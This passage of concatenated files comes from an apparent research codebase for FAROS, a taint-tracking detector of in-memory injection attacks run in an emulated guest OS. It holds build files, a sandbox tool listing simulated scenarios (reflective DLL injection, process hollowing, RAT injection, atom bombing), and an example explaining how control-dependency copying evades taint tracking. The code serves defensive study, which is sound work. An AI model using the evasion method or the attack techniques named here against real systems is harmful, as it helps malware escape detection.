  "CMakeFiles/faros_os.dir/runtime.cpp.o"
  "CMakeFiles/faros_os.dir/runtime.cpp.o.d"
  "CMakeFiles/faros_os.dir/syscalls.cpp.o"
  "CMakeFiles/faros_os.dir/syscalls.cpp.o.d"
  "CMakeFiles/faros_os.dir/vfs.cpp.o"
  "CMakeFiles/faros_os.dir/vfs.cpp.o.d"
  "libfaros_os.a"
  "libfaros_os.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/faros_os.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
