file(REMOVE_RECURSE
  "libfaros_os.a"
)
