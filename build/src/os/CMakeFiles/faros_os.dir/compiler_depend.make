# Empty compiler generated dependencies file for faros_os.
# This may be replaced when dependencies are built.
