
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/vm/assembler.cpp" "src/vm/CMakeFiles/faros_vm.dir/assembler.cpp.o" "gcc" "src/vm/CMakeFiles/faros_vm.dir/assembler.cpp.o.d"
  "/root/repo/src/vm/cpu.cpp" "src/vm/CMakeFiles/faros_vm.dir/cpu.cpp.o" "gcc" "src/vm/CMakeFiles/faros_vm.dir/cpu.cpp.o.d"
  "/root/repo/src/vm/isa.cpp" "src/vm/CMakeFiles/faros_vm.dir/isa.cpp.o" "gcc" "src/vm/CMakeFiles/faros_vm.dir/isa.cpp.o.d"
  "/root/repo/src/vm/mmu.cpp" "src/vm/CMakeFiles/faros_vm.dir/mmu.cpp.o" "gcc" "src/vm/CMakeFiles/faros_vm.dir/mmu.cpp.o.d"
  "/root/repo/src/vm/phys_mem.cpp" "src/vm/CMakeFiles/faros_vm.dir/phys_mem.cpp.o" "gcc" "src/vm/CMakeFiles/faros_vm.dir/phys_mem.cpp.o.d"
  "/root/repo/src/vm/replay.cpp" "src/vm/CMakeFiles/faros_vm.dir/replay.cpp.o" "gcc" "src/vm/CMakeFiles/faros_vm.dir/replay.cpp.o.d"
  "/root/repo/src/vm/tracer.cpp" "src/vm/CMakeFiles/faros_vm.dir/tracer.cpp.o" "gcc" "src/vm/CMakeFiles/faros_vm.dir/tracer.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/faros_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
