file(REMOVE_RECURSE
  "CMakeFiles/faros_vm.dir/assembler.cpp.o"
  "CMakeFiles/faros_vm.dir/assembler.cpp.o.d"
  "CMakeFiles/faros_vm.dir/cpu.cpp.o"
  "CMakeFiles/faros_vm.dir/cpu.cpp.o.d"
  "CMakeFiles/faros_vm.dir/isa.cpp.o"
  "CMakeFiles/faros_vm.dir/isa.cpp.o.d"
  "CMakeFiles/faros_vm.dir/mmu.cpp.o"
  "CMakeFiles/faros_vm.dir/mmu.cpp.o.d"
  "CMakeFiles/faros_vm.dir/phys_mem.cpp.o"
  "CMakeFiles/faros_vm.dir/phys_mem.cpp.o.d"
  "CMakeFiles/faros_vm.dir/replay.cpp.o"
  "CMakeFiles/faros_vm.dir/replay.cpp.o.d"
  "CMakeFiles/faros_vm.dir/tracer.cpp.o"
  "CMakeFiles/faros_vm.dir/tracer.cpp.o.d"
  "libfaros_vm.a"
  "libfaros_vm.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/faros_vm.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
