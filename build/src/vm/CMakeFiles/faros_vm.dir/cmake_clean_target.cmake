file(REMOVE_RECURSE
  "libfaros_vm.a"
)
