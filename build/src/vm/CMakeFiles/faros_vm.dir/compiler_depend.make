# Empty compiler generated dependencies file for faros_vm.
# This may be replaced when dependencies are built.
