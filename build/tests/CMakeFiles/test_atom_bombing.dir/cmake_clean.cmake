file(REMOVE_RECURSE
  "CMakeFiles/test_atom_bombing.dir/test_atom_bombing.cpp.o"
  "CMakeFiles/test_atom_bombing.dir/test_atom_bombing.cpp.o.d"
  "test_atom_bombing"
  "test_atom_bombing.pdb"
  "test_atom_bombing[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_atom_bombing.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
