# Empty compiler generated dependencies file for test_atom_bombing.
# This may be replaced when dependencies are built.
