file(REMOVE_RECURSE
  "CMakeFiles/test_attacks_builders.dir/test_attacks_builders.cpp.o"
  "CMakeFiles/test_attacks_builders.dir/test_attacks_builders.cpp.o.d"
  "test_attacks_builders"
  "test_attacks_builders.pdb"
  "test_attacks_builders[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_attacks_builders.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
