file(REMOVE_RECURSE
  "CMakeFiles/test_core_engine_flows.dir/test_core_engine_flows.cpp.o"
  "CMakeFiles/test_core_engine_flows.dir/test_core_engine_flows.cpp.o.d"
  "test_core_engine_flows"
  "test_core_engine_flows.pdb"
  "test_core_engine_flows[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_core_engine_flows.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
