# Empty dependencies file for test_core_engine_flows.
# This may be replaced when dependencies are built.
