
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/test_core_tags_prov.cpp" "tests/CMakeFiles/test_core_tags_prov.dir/test_core_tags_prov.cpp.o" "gcc" "tests/CMakeFiles/test_core_tags_prov.dir/test_core_tags_prov.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/attacks/CMakeFiles/faros_attacks.dir/DependInfo.cmake"
  "/root/repo/build/src/baselines/CMakeFiles/faros_baselines.dir/DependInfo.cmake"
  "/root/repo/build/src/core/CMakeFiles/faros_core.dir/DependInfo.cmake"
  "/root/repo/build/src/os/CMakeFiles/faros_os.dir/DependInfo.cmake"
  "/root/repo/build/src/vm/CMakeFiles/faros_vm.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/faros_common.dir/DependInfo.cmake"
  "/root/repo/build/src/introspection/CMakeFiles/faros_introspection.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
