file(REMOVE_RECURSE
  "CMakeFiles/test_core_tags_prov.dir/test_core_tags_prov.cpp.o"
  "CMakeFiles/test_core_tags_prov.dir/test_core_tags_prov.cpp.o.d"
  "test_core_tags_prov"
  "test_core_tags_prov.pdb"
  "test_core_tags_prov[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_core_tags_prov.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
