# Empty dependencies file for test_core_tags_prov.
# This may be replaced when dependencies are built.
