file(REMOVE_RECURSE
  "CMakeFiles/test_integration_attacks.dir/test_integration_attacks.cpp.o"
  "CMakeFiles/test_integration_attacks.dir/test_integration_attacks.cpp.o.d"
  "test_integration_attacks"
  "test_integration_attacks.pdb"
  "test_integration_attacks[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_integration_attacks.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
