# Empty dependencies file for test_integration_attacks.
# This may be replaced when dependencies are built.
