file(REMOVE_RECURSE
  "CMakeFiles/test_ipc_relay.dir/test_ipc_relay.cpp.o"
  "CMakeFiles/test_ipc_relay.dir/test_ipc_relay.cpp.o.d"
  "test_ipc_relay"
  "test_ipc_relay.pdb"
  "test_ipc_relay[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_ipc_relay.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
