# Empty dependencies file for test_ipc_relay.
# This may be replaced when dependencies are built.
