file(REMOVE_RECURSE
  "CMakeFiles/test_machine_events.dir/test_machine_events.cpp.o"
  "CMakeFiles/test_machine_events.dir/test_machine_events.cpp.o.d"
  "test_machine_events"
  "test_machine_events.pdb"
  "test_machine_events[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_machine_events.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
