# Empty dependencies file for test_machine_events.
# This may be replaced when dependencies are built.
