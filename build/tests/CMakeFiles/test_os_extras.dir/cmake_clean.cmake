file(REMOVE_RECURSE
  "CMakeFiles/test_os_extras.dir/test_os_extras.cpp.o"
  "CMakeFiles/test_os_extras.dir/test_os_extras.cpp.o.d"
  "test_os_extras"
  "test_os_extras.pdb"
  "test_os_extras[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_os_extras.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
