# Empty dependencies file for test_os_extras.
# This may be replaced when dependencies are built.
