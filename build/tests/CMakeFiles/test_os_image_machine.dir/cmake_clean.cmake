file(REMOVE_RECURSE
  "CMakeFiles/test_os_image_machine.dir/test_os_image_machine.cpp.o"
  "CMakeFiles/test_os_image_machine.dir/test_os_image_machine.cpp.o.d"
  "test_os_image_machine"
  "test_os_image_machine.pdb"
  "test_os_image_machine[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_os_image_machine.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
