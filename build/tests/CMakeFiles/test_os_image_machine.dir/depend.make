# Empty dependencies file for test_os_image_machine.
# This may be replaced when dependencies are built.
