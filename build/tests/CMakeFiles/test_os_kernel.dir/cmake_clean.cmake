file(REMOVE_RECURSE
  "CMakeFiles/test_os_kernel.dir/test_os_kernel.cpp.o"
  "CMakeFiles/test_os_kernel.dir/test_os_kernel.cpp.o.d"
  "test_os_kernel"
  "test_os_kernel.pdb"
  "test_os_kernel[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_os_kernel.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
