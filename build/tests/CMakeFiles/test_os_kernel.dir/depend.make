# Empty dependencies file for test_os_kernel.
# This may be replaced when dependencies are built.
