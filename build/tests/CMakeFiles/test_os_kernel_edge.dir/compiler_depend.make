# Empty compiler generated dependencies file for test_os_kernel_edge.
# This may be replaced when dependencies are built.
