file(REMOVE_RECURSE
  "CMakeFiles/test_os_vfs_net.dir/test_os_vfs_net.cpp.o"
  "CMakeFiles/test_os_vfs_net.dir/test_os_vfs_net.cpp.o.d"
  "test_os_vfs_net"
  "test_os_vfs_net.pdb"
  "test_os_vfs_net[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_os_vfs_net.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
