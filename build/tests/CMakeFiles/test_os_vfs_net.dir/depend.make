# Empty dependencies file for test_os_vfs_net.
# This may be replaced when dependencies are built.
