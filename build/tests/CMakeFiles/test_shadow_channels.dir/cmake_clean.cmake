file(REMOVE_RECURSE
  "CMakeFiles/test_shadow_channels.dir/test_shadow_channels.cpp.o"
  "CMakeFiles/test_shadow_channels.dir/test_shadow_channels.cpp.o.d"
  "test_shadow_channels"
  "test_shadow_channels.pdb"
  "test_shadow_channels[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_shadow_channels.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
