# Empty compiler generated dependencies file for test_shadow_channels.
# This may be replaced when dependencies are built.
