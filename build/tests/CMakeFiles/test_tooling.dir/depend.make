# Empty dependencies file for test_tooling.
# This may be replaced when dependencies are built.
