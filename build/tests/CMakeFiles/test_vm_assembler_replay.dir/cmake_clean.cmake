file(REMOVE_RECURSE
  "CMakeFiles/test_vm_assembler_replay.dir/test_vm_assembler_replay.cpp.o"
  "CMakeFiles/test_vm_assembler_replay.dir/test_vm_assembler_replay.cpp.o.d"
  "test_vm_assembler_replay"
  "test_vm_assembler_replay.pdb"
  "test_vm_assembler_replay[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_vm_assembler_replay.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
