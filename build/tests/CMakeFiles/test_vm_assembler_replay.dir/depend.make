# Empty dependencies file for test_vm_assembler_replay.
# This may be replaced when dependencies are built.
