file(REMOVE_RECURSE
  "CMakeFiles/test_vm_cpu.dir/test_vm_cpu.cpp.o"
  "CMakeFiles/test_vm_cpu.dir/test_vm_cpu.cpp.o.d"
  "test_vm_cpu"
  "test_vm_cpu.pdb"
  "test_vm_cpu[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_vm_cpu.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
