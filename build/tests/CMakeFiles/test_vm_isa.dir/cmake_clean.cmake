file(REMOVE_RECURSE
  "CMakeFiles/test_vm_isa.dir/test_vm_isa.cpp.o"
  "CMakeFiles/test_vm_isa.dir/test_vm_isa.cpp.o.d"
  "test_vm_isa"
  "test_vm_isa.pdb"
  "test_vm_isa[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_vm_isa.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
