# Empty compiler generated dependencies file for test_vm_isa.
# This may be replaced when dependencies are built.
