file(REMOVE_RECURSE
  "CMakeFiles/test_vm_mmu.dir/test_vm_mmu.cpp.o"
  "CMakeFiles/test_vm_mmu.dir/test_vm_mmu.cpp.o.d"
  "test_vm_mmu"
  "test_vm_mmu.pdb"
  "test_vm_mmu[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_vm_mmu.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
