file(REMOVE_RECURSE
  "CMakeFiles/test_vm_properties.dir/test_vm_properties.cpp.o"
  "CMakeFiles/test_vm_properties.dir/test_vm_properties.cpp.o.d"
  "test_vm_properties"
  "test_vm_properties.pdb"
  "test_vm_properties[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_vm_properties.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
