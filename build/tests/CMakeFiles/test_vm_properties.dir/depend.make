# Empty dependencies file for test_vm_properties.
# This may be replaced when dependencies are built.
