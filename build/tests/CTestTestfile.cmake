# CMake generated Testfile for 
# Source directory: /root/repo/tests
# Build directory: /root/repo/build/tests
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
include("/root/repo/build/tests/test_integration_attacks[1]_include.cmake")
include("/root/repo/build/tests/test_vm_isa[1]_include.cmake")
include("/root/repo/build/tests/test_vm_cpu[1]_include.cmake")
include("/root/repo/build/tests/test_vm_mmu[1]_include.cmake")
include("/root/repo/build/tests/test_vm_assembler_replay[1]_include.cmake")
include("/root/repo/build/tests/test_os_vfs_net[1]_include.cmake")
include("/root/repo/build/tests/test_os_kernel[1]_include.cmake")
include("/root/repo/build/tests/test_core_tags_prov[1]_include.cmake")
include("/root/repo/build/tests/test_core_engine[1]_include.cmake")
include("/root/repo/build/tests/test_baselines[1]_include.cmake")
include("/root/repo/build/tests/test_os_image_machine[1]_include.cmake")
include("/root/repo/build/tests/test_extensions[1]_include.cmake")
include("/root/repo/build/tests/test_common[1]_include.cmake")
include("/root/repo/build/tests/test_attacks_builders[1]_include.cmake")
include("/root/repo/build/tests/test_os_kernel_edge[1]_include.cmake")
include("/root/repo/build/tests/test_core_engine_flows[1]_include.cmake")
include("/root/repo/build/tests/test_tooling[1]_include.cmake")
include("/root/repo/build/tests/test_os_extras[1]_include.cmake")
include("/root/repo/build/tests/test_report[1]_include.cmake")
include("/root/repo/build/tests/test_vm_properties[1]_include.cmake")
include("/root/repo/build/tests/test_machine_events[1]_include.cmake")
include("/root/repo/build/tests/test_ipc_relay[1]_include.cmake")
include("/root/repo/build/tests/test_atom_bombing[1]_include.cmake")
include("/root/repo/build/tests/test_robustness[1]_include.cmake")
include("/root/repo/build/tests/test_shadow_channels[1]_include.cmake")
