// faros_sandbox — a small command-line front end over the whole stack, the
// shape of tool an analyst would actually run:
//
//   faros_sandbox list
//   faros_sandbox run <scenario> [--whitelist <proc>] [--no-netflow]
//                     [--no-file] [--no-process] [--no-export]
//                     [--addr-deps] [--json] [--taint-map] [--trace N]
//
// `run` records the scenario live, replays it under FAROS with the chosen
// options, and prints the verdict, report, and any requested extras.
#include <cstdio>
#include <cstring>
#include <memory>

#include "attacks/datasets.h"
#include "attacks/scenarios.h"
#include "baselines/report.h"
#include "core/analyst.h"
#include "core/report.h"
#include "vm/tracer.h"

using namespace faros;

namespace {

struct Catalog {
  std::vector<std::pair<std::string, std::string>> entries;  // name, note
};

std::unique_ptr<attacks::Scenario> make_scenario(const std::string& name) {
  using attacks::ReflectiveVariant;
  if (name == "reflective") {
    return std::make_unique<attacks::ReflectiveDllScenario>(
        ReflectiveVariant::kMeterpreter);
  }
  if (name == "reflective-transient") {
    return std::make_unique<attacks::ReflectiveDllScenario>(
        ReflectiveVariant::kMeterpreter, /*transient=*/true);
  }
  if (name == "reverse_tcp_dns") {
    return std::make_unique<attacks::ReflectiveDllScenario>(
        ReflectiveVariant::kReverseTcpDns);
  }
  if (name == "bypassuac") {
    return std::make_unique<attacks::ReflectiveDllScenario>(
        ReflectiveVariant::kBypassUac);
  }
  if (name == "hollowing") {
    return std::make_unique<attacks::HollowingScenario>();
  }
  if (name == "darkcomet" || name == "njrat") {
    return std::make_unique<attacks::RatInjectionScenario>(name);
  }
  if (name == "dropper") {
    return std::make_unique<attacks::DropperChainScenario>();
  }
  if (name == "ipc-relay") {
    return std::make_unique<attacks::IpcRelayScenario>();
  }
  if (name == "atom-bombing") {
    return std::make_unique<attacks::AtomBombingScenario>();
  }
  if (name == "jit-linking") {
    return std::make_unique<attacks::JitScenario>("pulleysystem", "java.exe",
                                                  true);
  }
  if (name == "jit-compute") {
    return std::make_unique<attacks::JitScenario>("acceleration", "java.exe",
                                                  false);
  }
  // Table IV samples by name.
  for (const auto& s : attacks::table4_families()) {
    if (s.name == name) {
      return std::make_unique<attacks::BehaviorScenario>(s.name + ".exe",
                                                         s.behaviors);
    }
  }
  for (const auto& s : attacks::table4_benign()) {
    if (s.name == name) {
      return std::make_unique<attacks::BehaviorScenario>(s.name + ".exe",
                                                         s.behaviors);
    }
  }
  return nullptr;
}

void list_scenarios() {
  std::printf("in-memory injection attacks:\n");
  std::printf("  reflective            reflective DLL inject -> notepad\n");
  std::printf("  reflective-transient  same, payload wipes itself\n");
  std::printf("  reverse_tcp_dns       self-injection, DNS-staged C2\n");
  std::printf("  bypassuac             reflective DLL inject -> firefox\n");
  std::printf("  hollowing             process hollowing of svchost\n");
  std::printf("  darkcomet | njrat     RAT code injection -> explorer\n");
  std::printf("  dropper               multi-stage dropper chain\n");
  std::printf("  ipc-relay             payload relayed over loopback IPC\n");
  std::printf("  atom-bombing          payload staged in the atom table\n");
  std::printf("jit workloads:\n");
  std::printf("  jit-linking           the Table III false positive\n");
  std::printf("  jit-compute           benign JIT workload\n");
  std::printf("behaviour samples (Table IV, non-injecting):\n");
  for (const auto& s : attacks::table4_families()) {
    std::printf("  %s\n", s.name.c_str());
  }
  for (const auto& s : attacks::table4_benign()) {
    std::printf("  %s  (benign)\n", s.name.c_str());
  }
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2 || std::strcmp(argv[1], "list") == 0) {
    list_scenarios();
    return 0;
  }
  if (std::strcmp(argv[1], "run") != 0 || argc < 3) {
    std::fprintf(stderr, "usage: %s list | run <scenario> [options]\n",
                 argv[0]);
    return 2;
  }
  std::string name = argv[2];
  auto scenario = make_scenario(name);
  if (!scenario) {
    std::fprintf(stderr, "unknown scenario '%s' (try `list`)\n",
                 name.c_str());
    return 2;
  }

  core::Options opts;
  bool want_json = false, want_map = false, want_cuckoo = false;
  size_t trace_n = 0;
  for (int i = 3; i < argc; ++i) {
    std::string arg = argv[i];
    if (arg == "--whitelist" && i + 1 < argc) {
      opts.whitelist.insert(argv[++i]);
    } else if (arg == "--no-netflow") {
      opts.track_netflow = false;
    } else if (arg == "--no-file") {
      opts.track_file = false;
      opts.taint_mapped_images = false;
    } else if (arg == "--no-process") {
      opts.track_process = false;
    } else if (arg == "--no-export") {
      opts.track_export = false;
    } else if (arg == "--addr-deps") {
      opts.propagate_address_deps = true;
    } else if (arg == "--json") {
      want_json = true;
    } else if (arg == "--taint-map") {
      want_map = true;
    } else if (arg == "--cuckoo") {
      want_cuckoo = true;
    } else if (arg == "--trace" && i + 1 < argc) {
      trace_n = static_cast<size_t>(std::atoi(argv[++i]));
    } else {
      std::fprintf(stderr, "unknown option '%s'\n", arg.c_str());
      return 2;
    }
  }

  // Record.
  auto rec = attacks::record_run(*scenario);
  if (!rec.ok()) {
    std::fprintf(stderr, "record failed: %s\n", rec.error().message.c_str());
    return 1;
  }
  std::printf("recorded %llu instructions, %zu external events\n",
              static_cast<unsigned long long>(rec.value().stats.instructions),
              rec.value().log.size());

  // Replay under FAROS (+ optional tracer + optional Cuckoo baseline).
  os::Machine m;
  baselines::CuckooSandboxSim cuckoo;
  core::FarosEngine engine(m.kernel(), opts);
  vm::Tracer tracer(trace_n ? trace_n : 16);
  tracer.chain(&engine);
  m.attach_cpu_plugin(trace_n ? static_cast<vm::ExecHooks*>(&tracer)
                              : &engine);
  m.add_monitor(&engine);
  if (want_cuckoo) m.add_monitor(&cuckoo);
  if (!m.boot().ok() || !scenario->setup(m).ok()) {
    std::fprintf(stderr, "replay setup failed\n");
    return 1;
  }
  m.load_replay(rec.value().log);
  m.run(scenario->budget());

  for (const auto& line : m.kernel().console()) {
    std::printf("guest| %s\n", line.c_str());
  }
  std::printf("\nverdict: %s\n",
              engine.flagged() ? "IN-MEMORY INJECTION FLAGGED" : "clean");
  if (!engine.findings().empty()) {
    std::printf("\n%s\n", engine.report().c_str());
    std::printf("%s\n",
                core::render_summary(
                    core::summarize_findings(engine.findings()))
                    .c_str());
    std::printf("%s\n",
                core::render_finding_detail(engine.findings()[0],
                                            engine.store(), engine.maps())
                    .c_str());
  }
  if (want_json) {
    std::printf("%s", core::render_findings_json(engine.findings(),
                                                 engine.store(),
                                                 engine.maps())
                          .c_str());
  }
  if (want_map) {
    std::printf("taint map:\n%s", core::taint_map(engine, m.kernel()).c_str());
  }
  if (trace_n) {
    std::printf("last %zu instructions:\n%s", trace_n,
                tracer.dump(trace_n).c_str());
  }
  if (want_cuckoo) {
    auto dump = baselines::CuckooSandboxSim::take_memory_dump(m.kernel());
    std::printf("\n--- event-based baseline, for comparison ---\n%s",
                baselines::render_sandbox_report(cuckoo, dump).c_str());
  }
  return engine.flagged() ? 0 : 1;
}
