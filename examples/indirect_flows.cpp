// Indirect flows, hands on (paper Section III/IV, Figures 1 and 2):
//
//  * Figure 1 — an address dependency: dst[i] = table[src[i]]. Pure
//    data-flow DIFT loses the taint; enabling address-dependency
//    propagation keeps it, at the price of overtainting.
//  * Figure 2 — a control dependency: copying a byte bit-by-bit through
//    `if` statements. No data flow exists at all; DIFT (FAROS included)
//    cannot see it. This is the documented evasion limit.
//
// FAROS' answer is neither under- nor over-tainting but a per-security-
// policy invariant (tag confluence) that sidesteps the dilemma.
#include <cstdio>

#include "attacks/guest_common.h"
#include "core/engine.h"
#include "os/machine.h"

using namespace faros;
using vm::Reg;

namespace {

constexpr FlowTuple kFlow{0xa9fe1aa1, 4444, 0xa9fe39a8, 49162};

/// Runs `build` as a suspended guest program, taints the byte at label
/// "src", resumes, and reports whether the byte at label "dst" is tainted.
bool run_probe(const core::Options& opts,
               const std::function<void(os::ImageBuilder&)>& build) {
  os::Machine m;
  core::FarosEngine engine(m.kernel(), opts);
  m.attach_cpu_plugin(&engine);
  m.add_monitor(&engine);
  if (!m.boot().ok()) return false;

  os::ImageBuilder ib("probe.exe", os::kUserImageBase);
  build(ib);
  auto img = ib.build();
  m.kernel().vfs().create("C:/probe.exe", img.value().serialize());
  auto pid = m.kernel().spawn("C:/probe.exe", /*suspended=*/true);
  os::Process* p = m.kernel().find(pid.value());

  VAddr src = os::kUserImageBase + ib.asm_().label_offset("src").value();
  VAddr dst = os::kUserImageBase + ib.asm_().label_offset("dst").value();
  osi::GuestXfer xfer{p->info(), &p->as, src, 1};
  engine.on_packet_to_guest(xfer, kFlow);

  p->state = os::ProcState::kReady;
  m.run(100'000);
  return engine.prov_at(p->as, dst) != core::kEmptyProv;
}

void fig1(os::ImageBuilder& ib) {
  auto& a = ib.asm_();
  a.label("_start");
  a.movi_label(Reg::R1, "table");
  a.movi(Reg::R2, 0);
  a.label("init");
  a.cmpi(Reg::R2, 256);
  a.bgeu("initd");
  a.add(Reg::R3, Reg::R1, Reg::R2);
  a.st8(Reg::R3, 0, Reg::R2);
  a.addi(Reg::R2, Reg::R2, 1);
  a.jmp("init");
  a.label("initd");
  a.movi_label(Reg::R4, "src");
  a.ld8(Reg::R5, Reg::R4, 0);   // tainted index
  a.add(Reg::R6, Reg::R1, Reg::R5);
  a.ld8(Reg::R7, Reg::R6, 0);   // str2[j] = lookuptable[str1[j]]
  a.movi_label(Reg::R8, "dst");
  a.st8(Reg::R8, 0, Reg::R7);
  a.label("spin");
  attacks::emit_sys(a, os::Sys::kNtYield);
  a.jmp("spin");
  a.align(8);
  a.label("src");
  a.zeros(8);
  a.label("dst");
  a.zeros(8);
  a.label("table");
  a.zeros(256);
}

void fig2(os::ImageBuilder& ib) {
  auto& a = ib.asm_();
  a.label("_start");
  a.movi_label(Reg::R1, "src");
  a.ld8(Reg::R2, Reg::R1, 0);  // taintedinput
  a.movi(Reg::R3, 0);          // untaintedoutput
  a.movi(Reg::R4, 1);          // bit
  a.label("bits");
  a.cmpi(Reg::R4, 256);
  a.bgeu("bitsd");
  a.and_(Reg::R5, Reg::R2, Reg::R4);
  a.cmpi(Reg::R5, 0);
  a.beq("skip");
  a.or_(Reg::R3, Reg::R3, Reg::R4);  // if (bit & in) out |= bit
  a.label("skip");
  a.shli(Reg::R4, Reg::R4, 1);
  a.jmp("bits");
  a.label("bitsd");
  a.movi_label(Reg::R6, "dst");
  a.st8(Reg::R6, 0, Reg::R3);
  a.label("spin");
  attacks::emit_sys(a, os::Sys::kNtYield);
  a.jmp("spin");
  a.align(8);
  a.label("src");
  a.zeros(8);
  a.label("dst");
  a.zeros(8);
}

}  // namespace

int main() {
  core::Options plain;
  plain.taint_mapped_images = false;
  core::Options addr_deps = plain;
  addr_deps.propagate_address_deps = true;

  std::printf("=== Indirect information flows vs DIFT ===\n\n");
  std::printf("Figure 1 (dst[i] = table[src[i]], address dependency):\n");
  std::printf("  default policy        : dst tainted = %s   "
              "(undertainting, by design)\n",
              run_probe(plain, fig1) ? "YES" : "no");
  std::printf("  + address dependencies: dst tainted = %s   "
              "(kept, at overtainting cost)\n\n",
              run_probe(addr_deps, fig1) ? "YES" : "no");

  std::printf("Figure 2 (bit-by-bit copy through branches, control "
              "dependency):\n");
  std::printf("  default policy        : dst tainted = %s   "
              "(laundered — the documented evasion limit)\n",
              run_probe(plain, fig2) ? "YES" : "no");
  std::printf("  + address dependencies: dst tainted = %s   "
              "(address deps do not help against control deps)\n",
              run_probe(addr_deps, fig2) ? "YES" : "no");

  std::printf("\nFAROS' resolution: don't chase indirect flows — define the "
              "attack invariant as tag confluence\n(netflow/export-table on "
              "one byte) and flag at the confluence point. See "
              "bench_ablation_indirect_flows.\n");
  return 0;
}
