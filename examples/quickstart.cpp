// Quickstart: the FAROS public API in ~80 lines.
//
//  1. Build a tiny guest machine (the whole-system emulator + WinSim OS).
//  2. Attach the FAROS DIFT-provenance engine.
//  3. Run a guest program that receives network data and stores it.
//  4. Ask FAROS for the provenance of the touched bytes.
//
// Build & run:  ./build/examples/quickstart
#include <cstdio>

#include "attacks/guest_common.h"
#include "core/engine.h"
#include "core/report.h"
#include "os/machine.h"

using namespace faros;
using vm::Reg;

int main() {
  // --- 1. machine + FAROS plugin -------------------------------------
  os::Machine machine;
  core::FarosEngine faros(machine.kernel(), core::Options{});
  machine.attach_cpu_plugin(&faros);  // instruction-level DIFT
  machine.add_monitor(&faros);        // semantic tag insertion
  if (auto r = machine.boot(); !r.ok()) {
    std::fprintf(stderr, "boot failed: %s\n", r.error().message.c_str());
    return 1;
  }

  // --- 2. a guest program: recv 16 bytes, copy them to a second buffer
  os::ImageBuilder ib("demo.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  attacks::emit_connect(a, attacks::kAttackerIp, attacks::kAttackerPort);
  attacks::emit_send_label(a, "hello", 5);
  a.movi_label(Reg::R9, "inbox");
  attacks::emit_recv(a, Reg::R9, 16);
  // Guest-code copy: taint travels with every byte.
  a.movi_label(Reg::R1, "copy");
  a.movi(Reg::R2, 0);
  a.label("loop");
  a.cmpi(Reg::R2, 16);
  a.bgeu("done");
